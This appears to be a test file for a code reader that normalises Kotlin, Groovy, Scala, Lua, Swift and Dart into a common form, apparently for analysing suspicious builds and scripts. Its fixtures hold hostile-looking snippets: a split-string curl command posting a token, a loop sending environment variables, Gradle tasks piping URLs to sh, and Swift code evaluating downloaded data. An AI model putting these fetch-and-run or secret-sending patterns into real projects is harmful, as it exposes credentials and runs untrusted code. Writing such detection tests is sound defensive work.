import type { Language } from "../../../../src/engine/index.ts";
import { tokenAdapter } from "../../../../src/evidence/readers/languages/tokens.ts";
import { budgetOf, fuzzAdapter, MOST_MS, readWith, slowestHostile } from "./damage-programs.ts";
import { renderLines } from "./render-lines.ts";

/** Code in texts of these languages begins like code in texts of ours. */
const CODE = ["$", "{"].join("");

function yieldOf(language: Language, text: string, path: string | null = null): readonly string[] {
  const { readAs, reason, body } = readWith(tokenAdapter, language, text, path);
  expect([readAs, reason]).toEqual(["tokens", null]);
  return renderLines(body).split("\n");
}

test("reads Kotlin: texts, closures, typed members, loops", () => {
  const text = `import java.net.URL
val cmd = "cu" + "rl -d ${CODE}token} $host" // comment
class Job(val cmd: String, private val u: URL) : Base() {
  fun go() = Runtime.getRuntime().exec(cmd)
  companion object { @JvmStatic fun main(args: Array<String>) { run(args) } }
}
for ((k, v) in System.getenv()) { send("$k=$v") }
val out = try { u.readText() } catch (e: Exception) { "" }
tasks.register<Exec>("x") { commandLine("sh", "-c", """a $cmd""".trimIndent()) }
fun last(a: String, b: Int = 3): String { return a ?: "x" }`;
  expect(yieldOf("kotlin", text)).toEqual([
    "import java.net (URL as URL)",
    'cmd = join("curl -d ", token, " ", host)',
    "class Job(Base) {",
    "  cmd = <>",
    "  u = <>",
    "  function constructor(cmd: String, u: URL) {",
    "    Job.cmd = cmd",
    "    Job.u = u",
    "  }",
    "  function go() {",
    "    return Runtime.getRuntime().exec(Job.cmd)",
    "  }",
    "  function main(args: Array) {",
    "    return run(args)",
    "  }",
    "}",
    "Job.cmd: String = <>",
    "Job.u: URL = <>",
    "loop v over System.getenv() {",
    "  k = v",
    '  send(join(k, "=", v))',
    "}",
    'out = either(u.readText(), "")',
    'tasks.register("x", function (it) {',
    '  return commandLine("sh", "-c", join("a ", cmd))',
    "})",
    'function last(a: String, b: Int = "3") {',
    '  return either(a, "x")',
    "}",
    "Job.main()",
  ]);
});

test("reads Groovy of builds and pipelines", () => {
  const text = `apply from: 'https://files.example/x.gradle'
def out = "curl https://files.example".execute().text
task foo(type: Exec) { commandLine 'sh', '-c', "$project.url | sh" }
pipeline { stage('Build') { steps {
  sh script: """x
${CODE}y}""", returnStdout: true
  withCredentials([string(credentialsId: 'x', variable: 'T')]) { sh 'curl $T' }
} } }
String d = /a\\/b/
def m = [a: 1, 'b': [2]]
def greet(String a, b = 'x') { a + b }`;
  expect(yieldOf("groovy", text)).toEqual([
    'apply(from: "https://files.example/x.gradle")',
    'out = "curl https://files.example".execute().text',
    "task(foo(type: Exec, function (it) {",
    '  return commandLine("sh", "-c", join(project, ".url | sh"))',
    "}))",
    "pipeline(function (it) {",
    '  return stage("Build", function (it) {',
    "    return steps(function (it) {",
    '      sh(script: join("x\\n", y), returnStdout: <>)',
    '      return withCredentials([string(credentialsId: "x", variable: "T")], function (it) {',
    '        return sh("curl $T")',
    "      })",
    "    })",
    "  })",
    "})",
    'd: String = "a/b"',
    'm = {a: "1", b: ["2"]}',
    'function greet(a: String, b = "x") {',
    "  return join(a, b)",
    "}",
  ]);
});

test("reads Scala: processes, matches, objects", () => {
  const text = `import sys.process._
import java.net.{URL, URI => U}
object App extends Base {
  val x = s"curl $url"
  def go(a: Int)(b: String): Unit = { x.! ; "ls" ! ; Seq("sh", "-c", x).!! }
  a match { case "x" => run(a)
    case _ => stop() }
  for (i <- list) yield f(i)
  def main(args: Array[String]): Unit = go(1)("x")
}`;
  expect(yieldOf("kotlin", text)).toEqual([
    "import sys.process.* ()",
    "import java.net (URL as URL, URI as U)",
    "class App(Base) {",
    "  x = <>",
    "  function go(a: Int, b: String) {",
    "    App.x.!()",
    '    "ls".!()',
    '    return Seq("sh", "-c", App.x).!!()',
    "  }",
    "  function main(args: Array) {",
    '    return App.go("1")("x")',
    "  }",
    "}",
    'App.x = join("curl ", url)',
    "(function (it) {",
    "  run(a)",
    "  return stop()",
    "})(a)",
    "loop i over list {",
    "  f(i)",
    "}",
    "App.main()",
  ]);
});

test("reads Lua: blocks, tables, calls without parentheses", () => {
  const text = `local http, n = require("socket.http"), 2
local x <const> = "a" .. "\\104\\105" .. [[raw]]
function M.run(cmd, ...)
  if cmd == "x" then os.execute(cmd) elseif n then io.popen("ls " .. cmd):read("*a") else print "q" end
  for k, v in pairs({a = 1, ["b"] = 2}) do os.remove(v) end
  repeat n = n + 1 until n > 3
  return function(z) return load(z)() end
end --[[ comment
]] f{1, 2}`;
  expect(yieldOf("lua", text)).toEqual([
    'http = require("socket.http")',
    'n = "2"',
    'x = "ahiraw"',
    "M.run = function run(cmd) {",
    '  if <cmd, "x"> {',
    "    os.execute(cmd)",
    "  } else {",
    "    if n {",
    '      io.popen(join("ls ", cmd)).read("*a")',
    "    } else {",
    '      print("q")',
    "    }",
    "  }",
    '  loop v over pairs({a: "1", b: "2"}) {',
    "    k = v",
    "    os.remove(v)",
    "  }",
    '  n = join(n, "1")',
    '  <n, "3">',
    "  return function (z) {",
    "    return load(z)()",
    "  }",
    "}",
    'f(["1", "2"])',
  ]);
});

test("reads Swift and Dart", () => {
  const swift = `let task = Process()
task.arguments = ["-c", "curl \\(url.path) | sh"]
guard let data = try? Data(contentsOf: url), ok else { return }
URLSession.shared.dataTask(with: url) { data, response in eval(data!) }.resume()
func go(_ a: String, with b: Int = 3) async throws -> String { switch a { case "x": run(a)
 default: break } }`;
  expect(yieldOf("other", swift, "a.swift")).toEqual([
    "task = Process()",
    'task.arguments = ["-c", join("curl ", url.path, " | sh")]',
    "data = Data(contentsOf: url)",
    "if <data, ok> {} else {",
    "  return",
    "}",
    "URLSession.shared.dataTask(with: url, function (data, response) {",
    "  return eval(data)",
    "}).resume()",
    'function go(a: String, b: Int = "3") {',
    "  if a {",
    "    run(a)",
    "  }",
    "  if a {}",
    "}",
  ]);
  const dart = `import 'dart:io' as io show Process;
Future<void> main(List<String> args) async {
  var p = await io.Process.run('sh', ['-c', 'a' "b ${CODE}c.d}"], runInShell: true);
  list.forEach((x) { run(x); }); p..a()..b();
  if (io.Platform.isWindows) { q(); } else if (z) return;
}`;
  expect(yieldOf("other", dart, "a.dart")).toEqual([
    "import dart:io (io)",
    "function main(args: List) {",
    '  p = io.Process.run("sh", ["-c", join("ab ", c.d)], runInShell: <>)',
    "  list.forEach(function (x) {",
    "    run(x)",
    "  })",
    "  p.a().b()",
    "  if io.Platform.isWindows {",
    "    q()",
    "  } else {",
    "    if z {",
    "      return",
    "    }",
    "  }",
    "}",
    "main()",
  ]);
});

test("says that a program was too long, and reads what it can", () => {
  const long = readWith(tokenAdapter, "kotlin", "f(a)\n".repeat(40_000));
  expect([long.readAs, long.reason]).toEqual(["tokens", "more than 100000 tokens"]);
  expect(long.body.length).toBeGreaterThan(20_000);
  const options = { language: "lua", path: null, budget: budgetOf(1) } as const;
  expect(tokenAdapter.read("x".repeat(100), options).readAs).toBe("unread");
});

const SAMPLES: readonly (readonly [language: Language, path: string, text: string])[] = [
  [
    "kotlin",
    "a.kt",
    `class A(val b: C = d) : E() { fun f() = when (x) { "a" -> "$b ${CODE}c}" else -> try { y } catch (e: F) { z } } }`,
  ],
  [
    "groovy",
    "a.gradle",
    `task a(type: Exec) { commandLine 'a', "b $c" }\ndef x = /y/; [1, a: 2].each { k, v -> k.execute() }`,
  ],
  [
    "lua",
    "a.lua",
    `local a, b = f{1, x = 2}, [[c]]\nfor k, v in pairs(t) do if k then g(v) elseif b then h() else i() end end`,
  ],
  ["other", "a.swift", `guard let a = try? b("\\(c)"), d else { return }\nlist.map { $0.x }.forEach { y in z(y!) }`],
  ["other", "a.dart", `Future<int> main(List<A> a) async => await f('$a ${CODE}b}', {x: 1}, (y) { z(y); });`],
];

test.each(SAMPLES)("reads damaged and hostile %s (%s) in bounded time", (language, path, text) => {
  expect(fuzzAdapter(tokenAdapter, language, text, path)).toBeLessThan(MOST_MS);
  expect(slowestHostile(tokenAdapter, language, path)).toBeLessThan(MOST_MS);
});
